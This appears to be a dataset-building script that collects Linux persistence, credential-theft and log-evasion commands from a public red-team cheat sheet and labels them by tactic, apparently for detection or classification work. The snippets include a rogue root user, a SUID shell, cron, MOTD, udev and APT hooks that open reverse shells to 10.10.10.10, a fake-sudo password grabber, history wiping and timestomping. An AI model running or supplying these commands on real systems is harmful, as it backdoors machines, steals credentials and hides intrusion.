S("swisskyrepo/InternalAllTheThings", "docs/redteam/persistence/linux-persistence.md",
  "7b3c5e887aa26ec10327eb38fa4c5e28c42457fe")
add(M, "persistence", "Add a Root User / SUID / Crontab / Bash configuration / Startup / Systemd / MOTD / Udev / APT", r'''
sudo useradd -ou 0 -g 0 john
echo "linuxpassword" | passwd --stdin john
echo 'int main(void){setresuid(0, 0, 0);system("/bin/sh");}' > $TMPDIR2/croissant.c
chown root:root $TMPDIR2/croissant
chmod 4777 $TMPDIR2/croissant
(crontab -l ; echo "@reboot sleep 200 && ncat 10.10.10.10 4242 -e /bin/bash")|crontab 2> /dev/null
cat /tmp/$TMPNAME2 >> ~/.bashrc
echo "alias sudo=~/.hidden/fakesudo" >> ~/.bashrc
sed -i -e "4i \$RSHELL" /etc/network/if-up.d/upstart
systemctl --user enable persistence.service
echo 'bash -c "bash -i >& /dev/tcp/10.10.10.10/4444 0>&1"' >> /etc/update-motd.d/00-header
echo "ACTION==\"add\",ENV{DEVTYPE}==\"usb_device\",SUBSYSTEM==\"usb\",RUN+=\"$RSHELL\"" | tee /etc/udev/rules.d/71-vbox-kernel-drivers.rules > /dev/null
echo 'APT::Update::Pre-Invoke {"nohup ncat -lvp 1234 -e /bin/bash 2> /dev/null &"};' > /etc/apt/apt.conf.d/42backdoor
''')
add(M, "credential_access", "Bash Configuration File (fakesudo)", r'''
echo $sudopass >> /tmp/pass.txt
''')

S("swisskyrepo/InternalAllTheThings", "docs/redteam/evasion/linux-evasion.md",
  "7b3c5e887aa26ec10327eb38fa4c5e28c42457fe")
add(M, "disable_logs", "Command History", r'''
unset HISTFILE
export HISTSIZE=0
history -d -2 && history -d -1
history -c && history -w
ln /dev/null -/.bash_history -sf
echo "" > .bash history
''')
add(M, "disable_logs", "Timestomping", r'''
touch -a -m -d @$MODIFIED_TS "example"
''')
add("ordinary", None, "File Names", r'''
touch 'index.php'
''')
